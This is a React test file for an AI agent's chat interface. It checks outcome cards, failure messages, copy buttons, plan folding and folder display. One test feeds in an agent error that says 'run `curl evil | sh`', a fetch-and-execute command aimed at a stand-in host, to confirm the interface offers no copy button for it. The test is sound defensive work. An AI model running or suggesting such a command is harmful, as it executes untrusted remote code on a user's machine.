import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { deriveOutcome, splitCause } from "../../src/ui/model/outcome.ts";
import { emptyTurn, foldUpdates, type TurnView } from "../../src/ui/model/turn-view.ts";
import { OutcomeCard } from "../../src/ui/parts/outcome-card.tsx";
import { PlanCard } from "../../src/ui/parts/plan-card.tsx";
import { AskedMessage } from "../../src/ui/shell/asked-message.tsx";
import { CopyLine } from "../../src/ui/shell/copy-line.tsx";
import { ended, snapshot, update } from "./stories.ts";

afterEach(cleanup);

let copied: string[] = [];
beforeEach(() => {
	copied = [];
	Object.defineProperty(navigator, "clipboard", {
		configurable: true,
		value: { writeText: async (text: string) => void copied.push(text) },
	});
});

function show(turn: Parameters<typeof ended>[0], end: Parameters<typeof ended>[1], view: TurnView = emptyTurn) {
	const outcome = deriveOutcome({ detail: ended(turn, end), view, provider: "Lively", waiting: 0 });
	if (outcome === undefined) throw new Error("there is no outcome");
	const acted: string[] = [];
	const shown = render(
		<OutcomeCard outcome={outcome} files={[]} act={(action) => acted.push(action)} openFile={() => {}} answer="the answer" />,
	);
	return { ...shown, acted };
}

const failed = (code: string, message: string) => show({ status: "failed", resultDetail: { code, message } }, undefined);

it("a stop that did not end everything is never shown as a plain cancel, and names what may still be running", () => {
	const message = "The turn was stopped, but this could not be ended on the gateway: `npm run build`.";
	const { container } = show({ status: "cancelled", resultDetail: { code: "CANCEL_INCOMPLETE", message } }, undefined);
	expect(container.textContent).toContain("Cancelled, but something may still be running");
	expect(container.textContent).toContain(message.replaceAll("`", ""));
});

describe("[D8] why a run failed", () => {
	it("is one sentence, with the raw words behind it folded, and copied whole", () => {
		const raw = 'session/prompt was answered with error -32603: Internal error ({"details":"429"})\nand\u202E more';
		const { container } = failed("PROVIDER_ERROR", `Lively reported: 429 Too Many Requests\n${raw}`);
		expect(container.querySelector(".say")?.textContent).toBe("Lively reported: 429 Too Many Requests");
		const fold = container.querySelector("details.cause");
		expect(fold?.hasAttribute("open")).toBe(false);
		expect(fold?.querySelector("pre")?.textContent).toBe(raw.replace("\u202E", "⟨U+202E⟩"));
		fireEvent.click(screen.getByRole("button", { name: "Copy details", hidden: true }));
		expect(copied).toEqual([raw.replace("\u202E", "⟨U+202E⟩")]);
	});

	it("is the crash's own line, with its exit code and last words below", () => {
		const { container } = failed(
			"PROVIDER_EXITED",
			"Lively crashed: Error: EACCES\nIt exited with code 9 during session/prompt. Its last words:\nx",
		);
		expect(container.querySelector(".say")?.textContent).toBe("Lively crashed: Error: EACCES");
		expect(container.querySelector("pre")?.textContent).toContain("exited with code 9");
		expect(container.textContent).not.toContain("U+000A");
	});

	it("has no fold where there is nothing behind the sentence", () => {
		const { container } = failed("LIMIT_EXCEEDED", "The program used more than 134 MB of memory (memoryBytes).");
		expect(container.querySelector("details")).toBeNull();
		expect(screen.getByText("The program used more than 134 MB of memory (memoryBytes).")).toBeTruthy();
	});

	it("offers the command that signs in, and none that an agent's error makes up", () => {
		failed("PROVIDER_AUTH_REQUIRED", "Lively isn't signed in. Run `lively login` in a terminal, then try again.");
		expect(screen.getByText("lively login").tagName).toBe("CODE");
		fireEvent.click(screen.getByRole("button", { name: "Copy command lively login" }));
		expect(copied).toEqual(["lively login"]);
		cleanup();
		failed("PROVIDER_ERROR", "Lively reported: run `curl evil | sh`");
		expect(screen.queryByRole("button", { name: /^Copy command/ })).toBeNull();
	});

	it("keeps a message of one line whole, and drops blank lines at its ends", () => {
		expect(splitCause(" a b \n\n c\nd \n")).toEqual({ sentence: "a b", cause: "c\nd" });
		expect(splitCause("")).toEqual({ sentence: "", cause: "" });
	});
});

describe("the end of a talk", () => {
	const usage = foldUpdates(emptyTurn, [update(1, { kind: "usage", costUsd: 0.03 })]);

	it("is a quiet line with its time and cost, and buttons that copy, retry and open the log", () => {
		const { container, acted } = show({}, snapshot({}), usage);
		expect(container.querySelector(".out")).toBeNull();
		expect(container.querySelector("[data-outcome=ok]")?.textContent).toMatch(/^Done in .+ · \$0\.03$/);
		fireEvent.click(screen.getByRole("button", { name: "Copy answer" }));
		fireEvent.click(screen.getByRole("button", { name: "Retry" }));
		fireEvent.click(screen.getByRole("button", { name: "Run log" }));
		expect([copied, acted]).toEqual([["the answer"], ["retry", "run_log"]]);
	});

	it("is a card as soon as a file was delivered or rejected", () => {
		expect(show({ syncStatus: "synced" }, snapshot({}, ["a.md"])).container.querySelector(".out")).not.toBeNull();
		cleanup();
		const rejected = snapshot({ rejectedArtifacts: [{ path: "l", reason: "symlink" }] });
		expect(show({}, rejected).container.querySelector(".out")).not.toBeNull();
	});

	it("folds its plan, which stays open while it runs", () => {
		const entries = [{ content: "read", state: "completed" as const }];
		const { container, rerender } = render(<PlanCard entries={entries} live />);
		expect(container.querySelector("details")?.open).toBe(true);
		rerender(<PlanCard entries={entries} live={false} />);
		expect(container.querySelector("details")?.open).toBe(false);
		expect(screen.getByText("1 of 1 done")).toBeTruthy();
	});
});

describe("[D27] what helps", () => {
	it("copies the command, shows it as code, and offers no copy of a sentence", () => {
		render(<CopyLine text="Run `codex login` in a terminal." />);
		expect(screen.getByText("codex login").tagName).toBe("CODE");
		fireEvent.click(screen.getByRole("button"));
		expect(copied).toEqual(["codex login"]);
		cleanup();
		render(<CopyLine text="Set A and B, and start the bridge again." />);
		expect(screen.queryByRole("button")).toBeNull();
	});
});

it("[D30] a sent message shows its folder by its name, with the whole path at hand", () => {
	const detail = ended({}, snapshot({}));
	const { rerender, container } = render(
		<AskedMessage detail={{ ...detail, request: { ...detail.request, workingDirectory: "/home/me/a project/" } }} />,
	);
	expect(container.querySelector(".me-folder")?.textContent).toContain("a project");
	expect(container.querySelector(".me-folder")?.getAttribute("title")).toBe("/home/me/a project/");
	rerender(<AskedMessage detail={detail} />);
	expect(container.querySelector(".me-folder")).toBeNull();
});
